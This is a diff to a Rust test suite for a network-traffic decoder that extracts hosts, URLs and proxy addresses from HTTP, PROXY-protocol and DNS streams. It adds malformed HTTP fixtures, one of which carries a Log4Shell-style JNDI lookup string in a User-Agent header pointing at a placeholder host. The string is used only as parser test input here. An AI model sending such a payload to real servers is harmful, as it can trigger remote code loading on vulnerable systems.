@@ -74,7 +74,14 @@ fn run(mut decoder: Decoder, port: u16, parts: &[Part]) -> (Recorder, Counters) 
         let data = part.packet((40_000, port));
         let length = data.len() as u32;
         let number = at as u64 + 1;
-        let frame = Frame { number, time: Timestamp(0), linktype: 101, length, data: &data };
+        let frame = Frame {
+            is_timed: true,
+            number,
+            time: Timestamp(0),
+            linktype: 101,
+            length,
+            data: &data,
+        };
         decoder.frame(&frame, &mut recorder);
     }
     decoder.finish(&mut recorder);
@@ -135,6 +142,31 @@ fn questions() -> Vec<u8> {
     framed.repeat(4)
 }
 
+/// Requests as only servers take them, behind the headers of two load balancers.
+fn lax_requests() -> Vec<u8> {
+    let mut text = crate::packet::proxy::tests::v4(b"\x02\0\x09p.example");
+    text.extend(b"PROXY TCP6 2001:db8::5 2001:db8::9 5000 80\r\n");
+    text.extend(b"\r\n\r\nGET \t /1  HTTP/1.1\nHost:\n a.example\nX-Url: http://b.example/\n\n");
+    text.extend(b"get http://c.example/2?u=http%3A%2F%2Fd.example HTTP/1.1\r\nHost: a.example\r\n");
+    text.extend(
+        b"Forwarded: for=\"[2001:db8::7]:99\";\r\n\thost=e.example\r\nFrom: who@f.example\r\n",
+    );
+    text.extend(b"User-Agent: ${jndi:ldap://g.example/x}\r\nReferer: http://h.example/\r\n\r\n");
+    text.extend(b"\n \t\r\nX /3 http/1.0\r\nHost : a.example\r\n\r\n");
+    text
+}
+
+fn lax_responses() -> Vec<u8> {
+    let mut text =
+        b"\r\nHTTP/1.1  302\r\nLocation: //a.example/x\r\nContent-Length: 0\r\n".to_vec();
+    text.extend(b"Set-Cookie: a=b;\r\n Domain=.b.example\r\nLink: <https://c.example>\r\n\r\n");
+    text.extend(b"http/1.1 200 OK\nContent-Location: http://d.example/\nContent-Length: 0\n\n");
+    text.extend(
+        b"HTTP/1.1 204 None\r\nVia: 1.1 e.example\r\nAlt-Svc: h3=\"f.example:443\"\r\n\r\n",
+    );
+    text
+}
+
 /// Both directions of a connection, and the server's port.
 fn conversations() -> Vec<(u16, Vec<u8>, Vec<u8>)> {
     vec![
@@ -155,6 +187,8 @@ fn conversations() -> Vec<(u16, Vec<u8>, Vec<u8>)> {
         // Of these the server's side can't be read without the client's.
         (4450, crate::packet::smb::tests::client(), crate::packet::smb::tests::server()),
         (1080, crate::packet::socks::tests::client(), crate::packet::socks::tests::server()),
+        (8084, lax_requests(), lax_responses()),
+        (53, [crate::packet::proxy::tests::v4(b""), questions()].concat(), questions()),
     ]
 }
 
@@ -203,6 +237,11 @@ fn everything_is_found_in_plain_streams() {
     let hassh: Vec<_> = ssh.iter().filter(|(at, _)| *at == Where::SshHassh).collect();
     assert_eq!((hassh.len(), ssh.len()), (2, 4));
     assert_ne!(hassh[0], hassh[1]);
+    let lax = plain(8084, &lax_requests(), &lax_responses());
+    let count = |at: Where| lax.iter().filter(|(place, _)| *place == at).count();
+    assert_eq!((count(Where::ProxySrc), count(Where::ProxyAuthority)), (2, 1));
+    assert_eq!((count(Where::HttpHost), count(Where::HttpUrl)), (3, 4));
+    assert_eq!((count(Where::HttpXff), count(Where::UrlHost)), (3, 2));
     assert_eq!(plain(53, &questions(), &[]).len(), 12);
     assert_eq!(plain(5300, &questions(), &[]).len(), 12);
     assert_eq!(
@@ -281,7 +320,14 @@ fn a_hole_is_not_waited_for_without_end() {
     let mut recorder = Recorder::default();
     for part in &parts {
         let data = part.packet((1, 80));
-        let frame = Frame { number: 1, time: Timestamp(0), linktype: 101, length: 0, data: &data };
+        let frame = Frame {
+            is_timed: true,
+            number: 1,
+            time: Timestamp(0),
+            linktype: 101,
+            length: 0,
+            data: &data,
+        };
         decoder.frame(&frame, &mut recorder);
     }
     assert_eq!(recorder.at(Where::HttpHost).len(), 70);
@@ -341,21 +387,41 @@ fn memory_is_bounded_and_other_flows_keep_what_they_have() {
         parts.push(Part::data(true, 5000, b"far"));
         for part in parts {
             let data = part.packet((port, 80));
-            let frame =
-                Frame { number: 1, time: Timestamp(0), linktype: 101, length: 0, data: &data };
+            let frame = Frame {
+                is_timed: true,
+                number: 1,
+                time: Timestamp(0),
+                linktype: 101,
+                length: 0,
+                data: &data,
+            };
             decoder.frame(&frame, &mut recorder);
             assert!(decoder.hosts.streams.used() <= 200_000, "{port}");
         }
         let whole = Part::data(true, 0, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n");
         let data = whole.packet((port, 8080));
-        let frame = Frame { number: 1, time: Timestamp(0), linktype: 101, length: 0, data: &data };
+        let frame = Frame {
+            is_timed: true,
+            number: 1,
+            time: Timestamp(0),
+            linktype: 101,
+            length: 0,
+            data: &data,
+        };
         decoder.frame(&frame, &mut recorder);
     }
     assert_eq!(recorder.at(Where::HttpHost).len(), 1999);
     // A flow whose slot was taken away goes on, and is not told what it was again.
     let again = Part::data(true, 2000, b"GET / HTTP/1.1\r\nHost: b.example\r\n\r\n");
     let data = again.packet((1, 80));
-    let frame = Frame { number: 1, time: Timestamp(0), linktype: 101, length: 0, data: &data };
+    let frame = Frame {
+        is_timed: true,
+        number: 1,
+        time: Timestamp(0),
+        linktype: 101,
+        length: 0,
+        data: &data,
+    };
     decoder.frame(&frame, &mut recorder);
     decoder.frame(&frame, &mut recorder);
     assert_eq!(recorder.at(Where::HttpHost).len(), 2000);
@@ -416,7 +482,7 @@ proptest! {
 
     #[test]
     fn any_delivery_reads_like_the_plain_stream(
-        which in 0..16_usize,
+        which in 0..18_usize,
         client in treatment(),
         server in treatment(),
         interleave in proptest::collection::vec(any::<bool>(), 0..40),
@@ -427,7 +493,7 @@ proptest! {
         let mut client = client.apply(true, &to_server).into_iter();
         let mut server = server.apply(false, &to_client).into_iter();
         // A server answers what it has received: where it matters, afterwards.
-        if !matches!(which, 0 | 7..=10 | 14 | 15) {
+        if !matches!(which, 0 | 7..=10 | 14..=16) {
             for is_client in interleave {
                 parts.extend(if is_client { client.next() } else { server.next() });
             }
@@ -454,7 +520,7 @@ proptest! {
 
     #[test]
     fn changed_conversations_do_not_panic(
-        which in 0..16_usize,
+        which in 0..18_usize,
         changes in proptest::collection::vec(
             (any::<bool>(), any::<prop::sample::Index>(), any::<u8>(), 0..4_u8), 0..8),
         pieces in proptest::collection::vec((any::<bool>(), 1..200_usize), 1..60),
